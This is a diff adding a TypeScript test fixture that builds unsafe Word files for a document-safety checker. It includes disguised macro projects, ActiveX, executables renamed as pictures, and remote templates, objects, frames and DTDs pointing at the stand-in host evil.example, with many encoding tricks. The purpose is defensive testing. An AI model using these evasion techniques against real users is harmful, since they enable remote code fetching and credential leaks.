@@ -1,0 +1,222 @@
+/** Word documents that fetch something from elsewhere, or hide what they bring (SEC-08). */
+import {
+  docx,
+  DOCUMENT_PART,
+  RELATIONS_PART,
+  typed,
+  TYPES_PART,
+  zip,
+  type ZipPart,
+} from "./zip.ts";
+
+const OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
+const XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>';
+
+/** A relations part with one relation of this type. */
+export const related = (
+  type: string,
+  target: string,
+  { mode = ' TargetMode="External"', name = "word/_rels/document.xml.rels" } = {},
+): ZipPart => ({
+  name,
+  data: `${XML}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r" Type="${type.includes(":") ? type : `${OFFICE}/${type}`}" Target="${target}"${mode}/></Relationships>`,
+});
+const template = (target: string, mode?: string): Buffer =>
+  docx(related("attachedTemplate", target, { mode, name: "word/_rels/settings.xml.rels" }));
+const big = (data: string): ZipPart => ({
+  name: "word/_rels/document.xml.rels",
+  data: `<Relationships>${'<Relationship Id="a" Type="b" Target="c"/>'.repeat(8000)}${data}</Relationships>`,
+});
+/** What hardly shrinks beside what shrinks too well. */
+const ballast: ZipPart = {
+  name: "word/media/photo.jpg",
+  data: Buffer.from(Array.from({ length: 9000 }, (_, index) => (index * 7919) % 251)),
+  stored: true,
+};
+/** An OLE container's beginning, with the name of a stream as its directory has it. */
+export const oleWith = (name: string): Buffer =>
+  Buffer.concat([
+    Buffer.from("d0cf11e0a1b11ae1", "hex"),
+    Buffer.alloc(1016),
+    Buffer.from(name, "utf16le"),
+    Buffer.alloc(64),
+  ]);
+
+export const notSafeDocx = (): [string, Buffer][] => [
+  [
+    "a macro project by another name, told by its relation",
+    docx(
+      { name: "word/media/photo.bin", data: "x" },
+      related(
+        "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
+        "media/photo.bin",
+        { mode: "" },
+      ),
+    ),
+  ],
+  [
+    "a macro project by another name, told by what it is",
+    docx({ name: "word/media/photo.png", data: oleWith("_VBA_PROJECT") }),
+  ],
+  [
+    "a macro project whose stream's name is in small letters",
+    docx({ name: "word/media/photo.png", data: oleWith("_vba_project") }),
+  ],
+  [
+    "content types of a macro document, a letter of them as an entity",
+    typed((types) =>
+      types.replace(
+        "vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
+        "vnd.ms-word.document.macro&#69;nabled.main+xml",
+      ),
+    ),
+  ],
+  [
+    "a macro project among its content types, a letter of it as an entity",
+    typed((types) =>
+      types.replace(
+        "</Types>",
+        '<Default Extension="bin" ContentType="application/vnd.ms-office.vba&#x50;roject"/></Types>',
+      ),
+    ),
+  ],
+  ["a macro project among its content types, in UTF-16", typesInUtf16()],
+  [
+    "ActiveX by its relation",
+    docx({ name: "word/x.xml", data: "<x/>" }, related("control", "x.xml", { mode: "" })),
+  ],
+  [
+    "a Windows program by the name of a picture",
+    docx({ name: "word/media/a.png", data: Buffer.from("MZ\u0090\u0000 program", "latin1") }),
+  ],
+  [
+    "a shortcut by the name of a picture",
+    docx({
+      name: "word/media/a.png",
+      data: Buffer.from("4c0000000114020000000000c000000000000046", "hex"),
+    }),
+  ],
+  ["a template on another machine", template("\\\\evil.example\\share\\a.dotm")],
+  ["a template on another machine, with slashes", template("//evil.example/share/a.dotm")],
+  [
+    "a template on another machine, by a file address",
+    template("file://evil.example/share/a.dotm"),
+  ],
+  [
+    "a template on another machine, by a file address with five slashes",
+    template("file://///evil.example/share/a.dotm"),
+  ],
+  [
+    "a template on another machine, by a file address and backslashes",
+    template("file:///\\\\evil.example\\share\\a.dotm"),
+  ],
+  [
+    "a template on another machine, its slashes as escapes",
+    template("file:///%5C%5Cevil.example%5Cshare%5Ca.dotm"),
+  ],
+  ["a template by WebDAV", template("\\\\evil.example@SSL\\DavWWWRoot\\a.dotm")],
+  [
+    "a template from elsewhere, a letter as an entity",
+    template("&#104;ttps://evil.example/a.dotm"),
+  ],
+  ["a template from elsewhere, without its mode", template("https://evil.example/a.dotm", "")],
+  ["a template from elsewhere, by mhtml", template("mhtml:https://evil.example/a.mht!x")],
+  [
+    "a template from elsewhere, in UTF-16",
+    docx({
+      name: "word/_rels/settings.xml.rels",
+      data: Buffer.from(
+        `\ufeff${String(related("attachedTemplate", "//evil.example/a.dotm").data).replace("UTF-8", "UTF-16")}`,
+        "utf16le",
+      ),
+    }),
+  ],
+  [
+    "a template from elsewhere, in capitals: .RELS",
+    docx(
+      related("attachedTemplate", "\\\\evil.example\\a.dotm", {
+        name: "word/_rels/settings.xml.RELS",
+      }),
+    ),
+  ],
+  [
+    "a template from elsewhere, past the first 256 kB",
+    docx(
+      ballast,
+      big(
+        `<Relationship Id="r" Type="${OFFICE}/attachedTemplate" TargetMode="External" Target="\\\\evil.example\\a.dotm"/>`,
+      ),
+    ),
+  ],
+  ["an object from elsewhere", docx(related("oleObject", "https://evil.example/a.html!"))],
+  [
+    "an object from elsewhere, on one's own disk",
+    docx(related("oleObject", "file:///C:\\Users\\x\\a.xls")),
+  ],
+  [
+    "a frame from elsewhere",
+    docx(
+      related("frame", "https://evil.example/a.htm", { name: "word/_rels/webSettings.xml.rels" }),
+    ),
+  ],
+  [
+    "a part of the document from elsewhere",
+    docx(related("subDocument", "https://evil.example/a.docx")),
+  ],
+  ["a document to take in from elsewhere", docx(related("aFChunk", "https://evil.example/a.rtf"))],
+  ["a picture on another machine", docx(related("image", "file://evil.example/share/a.png"))],
+  [
+    "an object by the strict relation's name",
+    docx(
+      related(
+        "http://purl.oclc.org/ooxml/officeDocument/relationships/oleObject",
+        "https://evil.example/a",
+      ),
+    ),
+  ],
+  [
+    "a kind of relation that nobody knows, to elsewhere",
+    docx(related("urn:x", "https://evil.example/a")),
+  ],
+  [
+    "a document type in UTF-16",
+    docx({
+      name: "customXml/item1.xml",
+      data: Buffer.from(
+        '\ufeff<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x SYSTEM "http://evil.example/a.dtd"><x/>',
+        "utf16le",
+      ),
+    }),
+  ],
+  [
+    "a document type in UTF-16, the other way round",
+    docx({
+      name: "customXml/item1.xml",
+      data: Buffer.from(
+        '\ufeff<!DOCTYPE x SYSTEM "http://evil.example/a.dtd"><x/>',
+        "utf16le",
+      ).swap16(),
+    }),
+  ],
+  [
+    "a document type in a part that is not called XML",
+    docx({
+      name: "customXml/item1.dat",
+      data: `${XML}<!DOCTYPE x SYSTEM "http://evil.example/a.dtd"><x/>`,
+    }),
+  ],
+  [
+    "elements within each other, five thousand deep",
+    docx(ballast, { name: "word/footer1.xml", data: "<a>".repeat(5000) + "</a>".repeat(5000) }),
+  ],
+];
+
+function typesInUtf16(): Buffer {
+  const types =
+    '\ufeff<Types><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/><Override PartName="/word/a.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>';
+  return zip([
+    { ...TYPES_PART, data: Buffer.from(types, "utf16le") },
+    RELATIONS_PART,
+    DOCUMENT_PART,
+  ]);
+}
